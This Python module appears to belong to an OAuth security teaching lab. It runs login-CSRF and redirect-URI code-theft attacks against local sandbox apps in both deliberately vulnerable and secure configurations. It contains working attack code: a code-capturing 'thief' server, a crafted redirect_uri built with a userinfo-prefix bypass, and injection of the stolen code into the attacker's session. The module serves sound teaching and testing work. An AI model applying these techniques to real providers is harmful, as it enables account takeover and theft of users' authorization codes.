"""The lesson's homework, made runnable: two attacks, each against a vulnerable setup and a
secure control, decided by what the browsers end up seeing.

login-csrf      the attacker stops their own sign-in before the callback and delivers the
                callback URL to the victim; an app that does not bind state to the browser
                signs the victim in to the attacker's account.
redirect-theft  a provider that matches redirect URIs by prefix sends the victim's code to
                the attacker's server; the attacker injects it into their own sign-in at
                the app and is signed in as the victim.
"""

from __future__ import annotations

import contextlib
import re
import secrets
import tempfile
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qsl, urlencode, urlsplit, urlunsplit

import httpx

from valetkey.client import steps
from valetkey.client.config import ClientConfig, ClientLab
from valetkey.client.server import BackgroundServer, free_socket
from valetkey.oauth.client_metadata import client_metadata
from valetkey.probe.agent import AgentError, UserAgent
from valetkey.provider import process
from valetkey.provider.registration import client_record

SIGNED_IN_AS = re.compile(r"Signed in as <strong>([^<]+)</strong>")


@dataclass(frozen=True)
class Outcome:
    setup: str
    vulnerable: bool  # was this setup meant to be broken?
    broken: bool  # did the attack work?
    detail: str

    @property
    def as_expected(self) -> bool:
        return self.broken == self.vulnerable


def _register(
    sandbox: process.SandboxProcess, client_id: str, redirect_uris: tuple[str, ...], secret: str
) -> None:
    metadata = client_metadata(
        client_id=client_id,
        name="Photo Printer",
        redirect_uris=redirect_uris,
        scope="openid profile photos.read",
        grant_types=("authorization_code",),
    )
    sandbox.register(client_record(metadata, secret))


@contextmanager
def photo_printer(
    sandbox: process.SandboxProcess,
    client_id: str,
    lab: frozenset[ClientLab],
    extra_redirects: tuple[str, ...] = (),
) -> Iterator[BackgroundServer]:
    sock = free_socket()
    origin = f"http://127.0.0.1:{sock.getsockname()[1]}"
    secret = secrets.token_urlsafe(32)
    _register(
        sandbox,
        client_id,
        (origin + "/callback", *(r.format(origin=origin) for r in extra_redirects)),
        secret,
    )
    config = ClientConfig.for_sandbox(sandbox.issuer, client_id, secret, origin + "/callback", lab)
    server = BackgroundServer(steps.create_app(config), sock).start()
    try:
        yield server
    finally:
        server.stop()


def signed_in_as(agent: UserAgent, app: BackgroundServer) -> str | None:
    page = agent.http.get(app.url + "/photos")
    match = SIGNED_IN_AS.search(page.text) if page.status_code == 200 else None
    return match.group(1) if match else None


# -- login CSRF ---------------------------------------------------------------------------------


def login_csrf_attack(
    sandbox: process.SandboxProcess, app: BackgroundServer, setup: str, vulnerable: bool
) -> Outcome:
    attacker = UserAgent("bob", sandbox.creds["users"]["bob"])
    victim = UserAgent("alice", sandbox.creds["users"]["alice"])
    try:
        stopped = attacker.navigate(
            app.url + "/login", stop_at=lambda url: url.startswith(app.url + "/callback")
        )
        if stopped.stopped_at is None:
            raise AgentError("the attacker's sign-in did not reach the callback")
        # the victim uses the app as usual: she clicked "sign in" and looked elsewhere
        victim.navigate(app.url + "/login", stop_at=lambda url: url.startswith(sandbox.issuer))
        victim.navigate(stopped.stopped_at)  # ... and follows the attacker's link
        who = signed_in_as(victim, app)
    finally:
        attacker.close()
        victim.close()
    broken = who is not None
    detail = (
        f"the victim's browser is signed in to Photo Printer as {who}"
        if broken
        else "the app refused the callback: it was not started in the victim's browser"
    )
    return Outcome(setup, vulnerable, broken, detail)


def run_login_csrf() -> list[Outcome]:
    with tempfile.TemporaryDirectory(prefix="valetkey-lab-") as tmp, ExitStack() as stack:
        sandbox = process.start(Path(tmp) / "sandbox")
        stack.callback(sandbox.stop)
        secure = stack.enter_context(photo_printer(sandbox, "printer-secure", frozenset()))
        broken = stack.enter_context(
            photo_printer(sandbox, "printer-no-state-check", frozenset({ClientLab.NO_STATE_CHECK}))
        )
        return [
            login_csrf_attack(sandbox, broken, "app with --lab no-state-check", True),
            login_csrf_attack(sandbox, secure, "secure app", False),
        ]


# -- redirect-URI theft ----------------------------------------------------------------------


class _Thief:
    """The attacker's server: it records every request's query (that is where codes land)."""

    def __init__(self) -> None:
        self.queries: list[dict[str, str]] = []
        thief = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                thief.queries.append(dict(parse_qsl(urlsplit(self.path).query)))
                self.send_response(200)
                self.send_header("content-type", "text/plain")
                self.end_headers()
                self.wfile.write(b"thanks")

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _rewrite_redirect(authorization_url: str, redirect_uri: str) -> str:
    parts = urlsplit(authorization_url)
    query = [(k, redirect_uri if k == "redirect_uri" else v) for k, v in parse_qsl(parts.query)]
    return urlunsplit((parts.scheme, parts.netloc, parts.path, urlencode(query), ""))


def redirect_theft_attack(
    sandbox: process.SandboxProcess, app: BackgroundServer, setup: str, vulnerable: bool
) -> Outcome:
    thief = _Thief()
    attacker = UserAgent("bob", sandbox.creds["users"]["bob"])
    victim = UserAgent("alice", sandbox.creds["users"]["alice"])
    try:
        victim.navigate(app.url + "/login")  # alice uses the app once, as usual
        start = attacker.navigate(
            app.url + "/login", stop_at=lambda url: url.startswith(sandbox.issuer)
        )
        assert start.stopped_at is not None
        host = urlsplit(app.url).netloc
        bait = _rewrite_redirect(start.stopped_at, f"http://{host}@127.0.0.1:{thief.port}/steal")
        with contextlib.suppress(httpx.HTTPError):  # the thief's page may answer oddly
            victim.navigate(bait)  # alice follows the attacker's link
        stolen = next((q for q in thief.queries if "code" in q), None)
        who = None
        if stolen is not None:  # code injection into the attacker's own pending sign-in
            attacker.http.get(app.url + "/callback", params=stolen)
            who = signed_in_as(attacker, app)
    finally:
        attacker.close()
        victim.close()
        thief.stop()
    if who is not None:
        return Outcome(
            setup, vulnerable, True, f"the attacker received alice's code and is signed in as {who}"
        )
    if stolen is not None:
        return Outcome(setup, vulnerable, True, "the attacker received alice's code")
    return Outcome(
        setup,
        vulnerable,
        False,
        "the provider refused the crafted redirect_uri; the attacker got nothing",
    )


def run_redirect_theft() -> list[Outcome]:
    outcomes = []
    for setup, args, vulnerable in (
        ("sandbox with --lab loose-redirect", ("--lab", "loose-redirect"), True),
        ("strict sandbox", (), False),
    ):
        with tempfile.TemporaryDirectory(prefix="valetkey-lab-") as tmp, ExitStack() as stack:
            sandbox = process.start(Path(tmp) / "sandbox", *args)
            stack.callback(sandbox.stop)
            # the app registered its origin as well: harmless when matching is exact
            app = stack.enter_context(
                photo_printer(sandbox, "printer", frozenset(), extra_redirects=("{origin}",))
            )
            outcomes.append(redirect_theft_attack(sandbox, app, setup, vulnerable))
    return outcomes
